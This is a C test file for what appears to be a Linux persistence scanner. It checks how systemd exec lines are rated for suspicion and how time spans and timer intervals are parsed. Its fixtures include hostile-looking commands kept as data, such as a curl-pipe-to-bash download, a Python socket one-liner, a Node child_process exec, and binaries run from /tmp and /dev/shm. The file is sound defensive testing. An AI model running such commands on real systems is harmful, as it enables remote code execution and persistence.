/*
 * test_persist_units.c — what a systemd unit runs and how often: command
 * lines with systemd's prefixes judged with the cron verdicts (download
 * and run, inline interpreter code, shell -c with network, temporary
 * paths), the program a line runs, systemd time spans and timer intervals
 * (OnUnitActiveSec=, OnCalendar= of minute granularity), with malformed
 * values that must give -1 or nothing rather than a crash.
 */
#include "testutil.h"
#include "persist/persist.h"

#include <string.h>

static rs_severity judged(const char *lines, bool *any)
{
	rs_verdict v;
	rs_verdict_init(&v);
	rs_persist_judge_exec(lines, &v);
	*any = v.any;
	return v.severity;
}

static void expect_sev(const char *lines, rs_severity want)
{
	bool any;
	rs_severity got = judged(lines, &any);
	if (!any || got != want)
		fail_msg("%s: got %s %d, wanted %d", lines, any ? "severity" : "nothing", (int)got, (int)want);
}

static void expect_clean(const char *lines)
{
	bool any;
	judged(lines, &any);
	if (any)
		fail_msg("%s: judged suspicious", lines);
}

static void test_exec_lines(void **state)
{
	(void)state;
	expect_sev("-/tmp/.x/upd", RS_SEV_HIGH);                    /* prefix taken off */
	expect_sev("!!/dev/shm/p --daemon", RS_SEV_HIGH);
	expect_sev("@/bin/bash bash -c 'curl -fsSL http://example.com/i.sh | bash'", RS_SEV_HIGH);
	expect_sev("/usr/bin/python3 -c 'import socket,os;s=socket.socket()'", RS_SEV_HIGH);
	expect_sev("/usr/bin/perl -e 'print 1'", RS_SEV_MEDIUM);
	expect_sev("/usr/bin/node -e \"require('child_process').exec('id')\"", RS_SEV_HIGH);
	expect_sev("/bin/sh -c 'wget -q https://example.com/f -O /var/lib/f'", RS_SEV_MEDIUM);
	expect_sev("/usr/sbin/cron -f\n-/var/tmp/.cache/x", RS_SEV_HIGH); /* the second line counts */
	expect_sev("/home/alice/.local/.cache/agent", RS_SEV_MEDIUM);
	expect_clean("/usr/sbin/sshd -D $SSHD_OPTS");
	expect_clean("-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM");
	expect_clean("/bin/sh -c 'exec /usr/sbin/foo --config /etc/foo.conf'");
	expect_clean("/usr/bin/python3 -m http.server 8000");
	expect_clean("/usr/bin/perl /usr/share/foo/bar.pl --every");
	expect_clean("");
	expect_clean("\n\n---\n!!!");
}

static void expect_program(const char *exec, const char *want)
{
	char out[256];
	bool ok = rs_unit_program(exec, out, sizeof(out));
	if (!want) {
		assert_false(ok);
		return;
	}
	assert_true(ok);
	assert_string_equal(out, want);
}

static void test_program(void **state)
{
	(void)state;
	expect_program("/usr/sbin/sshd -D", "/usr/sbin/sshd");
	expect_program("-/usr/bin/env FOO=1 /opt/x/bin/y --z", "/opt/x/bin/y");
	expect_program("!!/usr/sbin/foo", "/usr/sbin/foo");
	expect_program("@/usr/bin/bash bash -c x", "/usr/bin/bash");
	expect_program("foo --bar", NULL);
	expect_program("", NULL);
	expect_program("-", NULL);
	expect_program(NULL, NULL);
	char tiny[4];
	assert_false(rs_unit_program("/usr/bin/long", tiny, sizeof(tiny)));
}

static void test_timespan(void **state)
{
	(void)state;
	assert_int_equal(rs_systemd_timespan("5min"), 300);
	assert_int_equal(rs_systemd_timespan("1h 30min"), 5400);
	assert_int_equal(rs_systemd_timespan("90"), 90);
	assert_int_equal(rs_systemd_timespan("2m30s"), 150);
	assert_int_equal(rs_systemd_timespan("1d"), 86400);
	assert_int_equal(rs_systemd_timespan("1.5h"), 3600);
	assert_int_equal(rs_systemd_timespan("500ms"), 0);
	assert_int_equal(rs_systemd_timespan("abc"), -1);
	assert_int_equal(rs_systemd_timespan("5 parsecs"), -1);
	assert_int_equal(rs_systemd_timespan(""), -1);
	assert_int_equal(rs_systemd_timespan("99999999999999y"), -1);
	assert_int_equal(rs_systemd_timespan("999999999 years"), -1);
}

static void test_timer_interval(void **state)
{
	(void)state;
	assert_int_equal(rs_timer_interval("OnUnitActiveSec=5min\n"), 300);
	assert_int_equal(rs_timer_interval("OnBootSec=1min\n"), -1);          /* once after boot */
	assert_int_equal(rs_timer_interval("OnBootSec=1min\nOnUnitActiveSec=2min\n"), 120);
	assert_int_equal(rs_timer_interval("OnCalendar=*:0/5\n"), 300);
	assert_int_equal(rs_timer_interval("OnCalendar=*-*-* *:*:00\n"), 60);
	assert_int_equal(rs_timer_interval("OnCalendar=minutely"), 60);
	assert_int_equal(rs_timer_interval("OnCalendar=*-*-* *:09,39:00\n"), 1800); /* phpsessionclean */
	assert_int_equal(rs_timer_interval("OnCalendar=hourly\n"), 3600);
	assert_int_equal(rs_timer_interval("OnCalendar=daily\n"), -1);
	assert_int_equal(rs_timer_interval("OnCalendar=*-*-* 6,18:00\n"), -1);
	assert_int_equal(rs_timer_interval("OnCalendar=Sun *-*-* 03:10:00\n"), -1);
	assert_int_equal(rs_timer_interval("OnCalendar=*-*-* 01:50:00\nOnUnitActiveSec=10min\n"), 600);
	/* steps and ranges past LONG_MAX (found by fuzz_unit_judge): counted as
	 * any step past the field's range, no overflow */
	assert_int_equal(rs_timer_interval("OnCalendar=*:0/99999999999999999999999\n"),
			 rs_timer_interval("OnCalendar=*:0/1000\n"));
	assert_int_equal(rs_timer_interval("OnCalendar=*:*/11111111111111111111111111\n"),
			 rs_timer_interval("OnCalendar=*:*/1000\n"));
	assert_int_equal(rs_timer_interval("OnCalendar=*:0..99999999999999999999999\n"),
			 rs_timer_interval("OnCalendar=*:0..1000000\n"));
	/* malformed */
	static const char *const bad[] = { "", "=", "OnCalendar=", "OnCalendar=:::::", "OnCalendar=*:",
					   "OnCalendar=*:/", "OnCalendar=*:0/0", "OnCalendar=*:a/b",
					   "OnUnitActiveSec=", "OnUnitActiveSec=-5min", "no equals sign\n\n",
					   "OnCalendar=* * * * * * * *:*" };
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		long t = rs_timer_interval(bad[i]);
		assert_true(t == -1 || t >= 60);
	}
	assert_int_equal(rs_timer_interval(NULL), -1);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_exec_lines),
		cmocka_unit_test(test_program),
		cmocka_unit_test(test_timespan),
		cmocka_unit_test(test_timer_interval),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
